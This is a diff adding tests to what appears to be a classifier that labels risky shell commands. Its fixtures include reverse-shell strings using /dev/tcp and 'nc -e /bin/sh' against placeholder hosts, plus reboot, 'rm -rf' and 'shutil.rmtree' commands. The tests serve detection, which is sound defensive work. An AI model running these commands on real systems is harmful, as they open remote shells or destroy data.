@@ -84,6 +84,15 @@ describe('matched rules', () => {
     expect(classify('bash -c "reboot now"').rules[0]).toMatchObject({ id: 'H09', tier: 'hardline', description: 'system shutdown/reboot' });
   });
 
+  it('name a shell reading a network connection only when the connection is its input, and where it leads', () => {
+    const ids = (command: string) => classify(command).rules.map((rule) => rule.id);
+    expect(ids('bash -i >& /dev/tcp/h/1 0>&1')).toContain('N34');
+    expect(ids('bash -i 0<notes.txt >& /dev/tcp/h/1 2>&1')).not.toContain('N34');
+    expect(ids('bash -i >& /dev/tcp/h/1 0>&1 0<notes.txt')).not.toContain('N34');
+    expect(keys('nc -e /bin/sh a.example 1')).not.toEqual(keys('nc -e /bin/sh b.example 1'));
+    expect(keys('sh < /dev/tcp/a.example/1')).not.toEqual(keys('sh < /dev/tcp/b.example/1'));
+  });
+
   it('say when interpreter code makes destructive calls', () => {
     const [rule] = classify("python3 -c 'import shutil; shutil.rmtree(\"/srv\")'").rules;
     expect(rule?.id).toBe('D26');
@@ -98,6 +107,11 @@ describe('the commands found', () => {
       { name: 'rm', args: ['-rf', '/tmp/x'], wrappers: ['sudo', 'timeout', 'env'], text: 'sudo timeout 5 env X=1 rm -rf /tmp/x' },
     ]);
     expect(classify('FOO=1 make').commands[0]?.wrappers).toEqual(['FOO=1']);
+  });
+
+  it('takes digits written against a redirection for its descriptor, not an argument', () => {
+    expect(classify('sh 0<notes.txt').commands[0]?.args).toEqual([]);
+    expect(classify('sh 0 <notes.txt').commands[0]?.args).toEqual(['0']);
   });
 
   it('lists every executed command, including those inside substitutions and re-parsed text', () => {
